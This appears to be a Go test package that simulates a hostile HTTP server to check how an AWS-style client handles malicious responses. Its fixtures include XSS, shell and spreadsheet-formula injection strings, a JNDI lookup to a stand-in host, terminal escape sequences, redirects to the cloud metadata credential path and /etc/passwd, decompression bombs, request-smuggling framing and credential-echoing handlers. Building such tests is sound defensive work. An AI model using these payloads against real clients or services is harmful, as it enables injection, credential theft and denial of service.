package hostile

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
)

// body answers an error with such a body.
func body(text string) Behaviour {
	return always(fmt.Sprintf("%sContent-Length: %d\r\n\r\n%s", refusal, len(text), text))
}

// message answers an error whose every field says the same, headers included.
func message(text string) Behaviour {
	quoted, _ := json.Marshal(text) // strings can be marshalled
	b := fmt.Sprintf(`{"__type":%s,"code":%s,"message":%s,%s:%s}`, quoted, quoted, quoted, quoted, quoted)
	line := strings.NewReplacer("\r", "", "\n", "", "\x00", "").Replace(text)
	return always(fmt.Sprintf("HTTP/1.1 400 %s\r\nContent-Type: %s\r\nX-Amzn-ErrorType: %s\r\nX-Amzn-RequestId: "+
		"%s\r\nContent-Length: %d\r\n\r\n%s", line, line, line, line, len(b), b))
}

// Content that harms whoever shows it, or reads it carelessly.
var (
	// InvalidUTF8 has a message that is no UTF-8.
	InvalidUTF8 = body("{\"__type\":\"ValidationException\",\"message\":\"\xff\xfe\xc0\xaf\xed\xa0\x80\"}")
	// NULs has NUL in its message, escaped and raw, and in a header.
	NULs = always(refusal + "X-Nul: a\x00b\r\nContent-Length: " +
		"61\r\n\r\n{\"__type\":\"ValidationException\",\"message\":\"a\\u0000b\x00c\x00d\x00e\"}")
	// DeepJSON nests a hundred thousand arrays in its error.
	DeepJSON = body(`{"__type":"ValidationException","deep":` + strings.Repeat("[", 100_000) + strings.Repeat("]",
		100_000) + `}`)
	// WideJSON has a hundred thousand members in its error.
	WideJSON = body(`{"__type":"Strange"` + strings.Repeat(`,"a":1`, 100_000) + `}`)
	// LongMessage has a message that just fits.
	LongMessage = body(`{"__type":"Strange","message":"` + strings.Repeat("m", 1<<20-100) + `"}`)
	// TerminalEscapes would clear the screen, set its title and write to the clipboard.
	TerminalEscapes = message("\x1b[2J\x1b]0;title\x07\x1b]52;c;ZXZpbA==\x07\u009b31m\u202etxt.exe")
	// Script would run in a browser.
	Script = message(`"><script>alert(1)</script><img src=x onerror=alert(2)>]]>&#60;script`)
	// Commands would run in a shell, a log of CI or a spreadsheet.
	Commands = message("$(touch pwned) `touch pwned` '; touch pwned # ::error::pwned ##vso[task.complete] " +
		"=cmd|'/c calc'!A1")
	// Formats would be taken for a format.
	Formats = message("%s%s%n%d%!(EXTRA) {{.}} ${jndi:ldap://192.0.2.1/a}")
	// ManyTypes names different errors wherever one may stand.
	ManyTypes = always(refusal + "X-Amzn-ErrorType: JobNotFoundException\r\nX-Amzn-ErrorType: " +
		"Other\r\nContent-Length: 74\r\n\r\n" +
		`{"__type":"ValidationException","code":"InvalidJobStateException","a":"b"}`)
	// ManyContentTypes has three content types.
	ManyContentTypes = always("HTTP/1.1 400 Bad Request\r\nContent-Type: text/html\r\nContent-Type: " +
		"application/x-amz-json-1.1\r\nContent-Type: \x01\r\nContent-Length: 47\r\n\r\n" + right)
	// FoldedHeader continues a header on the next line, as was allowed once.
	FoldedHeader = always("HTTP/1.1 400 Bad Request\r\nContent-Type: application/\r\n " +
		"x-amz-json-1.1\r\nContent-Length: 47\r\n\r\n" + right)
)

// ThrottlesSome refuses each request three times before it takes it.
func ThrottlesSome() Behaviour {
	return func(c *Conn, r *http.Request, body string) bool {
		if c.target.again(body) <= 3 {
			return throttled(c, r, body)
		}
		return properly(c, r, body)
	}
}

// throttled is the answer of a service that is asked too often.
var throttled = body(`{"__type":"ThrottlingException","message":"Rate exceeded"}`)

// Echo refuses every request, and says in its error and in its headers what it was sent, credentials and all.
func Echo(c *Conn, r *http.Request, _ string) bool {
	var all []string
	for name, values := range r.Header {
		all = append(all, name+": "+strings.Join(values, ", "))
	}
	heard := strings.Join(all, "; ")
	text, err := json.Marshal(map[string]string{"__type": "Strange " + heard, "message": heard})
	return err == nil && c.say(fmt.Sprintf("%sX-Amzn-RequestId: %s\r\nX-Heard: %s\r\nContent-Length: %d\r\n\r\n%s",
		refusal, heard, heard, len(text), text))
}

// EchoAsGarbage says what it was sent where the answer should be.
func EchoAsGarbage(c *Conn, r *http.Request, _ string) bool {
	c.say(r.Header.Get("X-Amz-Security-Token") + r.Header.Get("Authorization"))
	return false
}

const refusal = "HTTP/1.1 400 Bad Request\r\nContent-Type: application/x-amz-json-1.1\r\n"

var (
	kib  = strings.Repeat("x", 1<<10)
	slab = strings.Repeat("x", 64<<10)
)

// flood says a beginning, and then a part of it until nobody listens.
func flood(beginning, part string) Behaviour {
	return func(c *Conn, _ *http.Request, _ string) bool {
		for more := c.say(beginning); more; more = c.say(part) {
		}
		return false
	}
}

// Floods.
var (
	// EndlessStatusLine has a reason phrase without end.
	EndlessStatusLine = flood("HTTP/1.1 400 ", kib)
	// EndlessHeaders has header lines without end.
	EndlessHeaders = flood(refusal, "X-Flood: "+kib+"\r\n")
	// EndlessHeaderLine has one header line without end.
	EndlessHeaderLine = flood(refusal+"X-Flood: ", kib)
	// EndlessInterim sends interim answers and never the final one.
	EndlessInterim = flood("", "HTTP/1.1 102 Processing\r\n\r\n")
	// EndlessHints sends early hints with many links and never the final answer.
	EndlessHints = flood("", "HTTP/1.1 103 Early Hints\r\nLink: </"+kib+">\r\n\r\n")
	// EndlessBody sends a body that only the connection's end would end.
	EndlessBody = flood(refusal+"\r\n", slab)
	// GiantBody announces 1 GiB, and sends it.
	GiantBody = flood(refusal+"Content-Length: 1073741824\r\n\r\n", slab)
	// EndlessChunks sends chunks and never the last one.
	EndlessChunks = flood(refusal+chunked, "10000\r\n"+slab+"\r\n")
	// TinyChunks sends chunks of one byte without end.
	TinyChunks = flood(refusal+chunked, strings.Repeat("1\r\nx\r\n", 1000))
	// EndlessExtension has an extension of a chunk without end.
	EndlessExtension = flood(refusal+chunked+"1;", kib)
	// EndlessTrailer ends its chunks, and its trailer never.
	EndlessTrailer = flood(refusal+chunked+"0\r\n", "X-Flood: "+kib+"\r\n")
)

const chunked = "Transfer-Encoding: chunked\r\n\r\n"

// GzipBomb answers some kilobytes that are 64 MiB once decompressed.
func GzipBomb() Behaviour {
	return bomb("gzip", func(w io.Writer) io.WriteCloser { return gzip.NewWriter(w) })
}

// DeflateBomb is the same with deflate.
func DeflateBomb() Behaviour {
	return bomb("deflate", func(w io.Writer) io.WriteCloser { return zlib.NewWriter(w) })
}

// bomb packs the same part many times, 64 MiB in all, when it is first asked for: it takes some tenths of a second.
func bomb(coding string, pack func(io.Writer) io.WriteCloser) Behaviour {
	packed := sync.OnceValue(func() Behaviour {
		var b bytes.Buffer
		w := pack(&b)
		for range 1 << 10 {
			_, _ = io.WriteString(w, slab) // to memory
		}
		_ = w.Close()
		return PartAndHold(fmt.Sprintf("%sContent-Encoding: %s\r\nContent-Length: %d\r\n\r\n%s", refusal, coding,
			b.Len(), b.String()))
	})
	return func(c *Conn, r *http.Request, body string) bool { return packed()(c, r, body) }
}

// always answers every request with the same bytes and keeps the connection.
func always(answer string) Behaviour {
	return func(c *Conn, _ *http.Request, _ string) bool { return c.say(answer) }
}

const right = `{"__type":"ValidationException","message":"no"}`

// Lies about the length of an answer, and about what it is.
var (
	// LengthTooLong announces more than it sends, and waits.
	LengthTooLong = PartAndHold(refusal + "Content-Length: 1000\r\n\r\n" + right)
	// LengthTooLongClosed announces more than it sends, and closes.
	LengthTooLongClosed = Part(refusal + "Content-Length: 1000\r\n\r\n" + right)
	// LengthTooShort announces less than it sends.
	LengthTooShort = always(refusal + "Content-Length: 10\r\n\r\n" + right)
	// LengthNegative announces a negative length.
	LengthNegative = always(refusal + "Content-Length: -1\r\n\r\n" + right)
	// LengthHuge announces more than fits an integer.
	LengthHuge = always(refusal + "Content-Length: 99999999999999999999\r\n\r\n" + right)
	// TwoLengths announces two different lengths.
	TwoLengths = always(refusal + "Content-Length: 10\r\nContent-Length: 47\r\n\r\n" + right)
	// LengthAndChunks announces a length, and chunks, which smuggles answers past some.
	LengthAndChunks = always(refusal + "Content-Length: 3\r\n" + chunked + "2f\r\n" + right + "\r\n0\r\n\r\n")
	// ChunkTooLong has a chunk that is shorter than its size.
	ChunkTooLong = Part(refusal + chunked + "ff\r\n" + right + "\r\n0\r\n\r\n")
	// ChunkTooShort has a chunk that is longer than its size.
	ChunkTooShort = always(refusal + chunked + "5\r\n" + right + "\r\n0\r\n\r\n")
	// ChunkOverflow has a chunk whose size overflows.
	ChunkOverflow = always(refusal + chunked + "fffffffffffffffff\r\n" + right + "\r\n0\r\n\r\n")
	// ChunkNegative has a chunk of a negative size.
	ChunkNegative = always(refusal + chunked + "-1\r\n" + right + "\r\n0\r\n\r\n")
	// HTTP09 answers like HTTP/0.9: a body and nothing else.
	HTTP09 = Part("<html>hello</html>")
	// Garbage answers bytes that are no protocol's.
	Garbage = Part("\x00\xff\xfe\x1b[2J\r\n\r\n\x80garbage")
	// HTTP2 answers in frames of HTTP/2: settings, and going away.
	HTTP2 = Part("\x00\x00\x00\x04\x00\x00\x00\x00\x00\x00\x00\x08\x07\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x0d")
	// OtherVersion answers with a version of HTTP that there is not.
	OtherVersion = always("HTTP/7.3 400 Bad Request\r\nContent-Length: 0\r\n\r\n")
	// NoStatus answers with a status that is no number.
	NoStatus = always("HTTP/1.1 OK fine\r\nContent-Length: 0\r\n\r\n")
	// Switches changes to another protocol, which nobody asked for.
	Switches = PartAndHold("HTTP/1.1 101 Switching Protocols\r\nUpgrade: chat\r\nConnection: Upgrade\r\n\r\nhello")
	// ExpectationFailed refuses an expectation that nobody had.
	ExpectationFailed = always("HTTP/1.1 417 Expectation Failed\r\nContent-Length: 0\r\n\r\n")
	// AnswersTwice sends every answer a second time, which the next request might take.
	AnswersTwice = always(strings.Repeat(refusal+"Content-Length: 47\r\n\r\n"+right, 2))
	// AnswersSuccessBehind sends a refusal, and behind it a success for the next request.
	AnswersSuccessBehind = always(refusal + "Content-Length: 47\r\n\r\n" + right +
		"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
	// RedirectsInCircles redirects every request to itself.
	RedirectsInCircles = redirect("/")
	// RedirectsElsewhere redirects to another host.
	RedirectsElsewhere = redirect("http://192.0.2.1/")
	// RedirectsToMetadata redirects to where clouds tell credentials.
	RedirectsToMetadata = redirect("http://169.254.169.254/latest/meta-data/iam/security-credentials/")
	// RedirectsToFile redirects to a file.
	RedirectsToFile = redirect("file:///etc/passwd")
)

func redirect(to string) Behaviour {
	return always("HTTP/1.1 307 Temporary Redirect\r\nLocation: " + to + "\r\nContent-Length: 0\r\n\r\n")
}

// EarlyHints sends early hints, and then what it should, which is right.
func EarlyHints(c *Conn, r *http.Request, body string) bool {
	return c.say("HTTP/1.1 103 Early Hints\r\nLink: </style.css>\r\n\r\nHTTP/1.1 100 Continue\r\n\r\n") &&
		properly(c, r, body)
}

// Behind answers every request of a connection with the answer to the one before.
func Behind() Behaviour {
	return func(c *Conn, r *http.Request, body string) bool {
		last := c.last
		answer, text := c.answer(r, body)
		c.last = func() bool { return c.send(answer, text) }
		return last == nil && c.send(answer, text) || last != nil && last()
	}
}
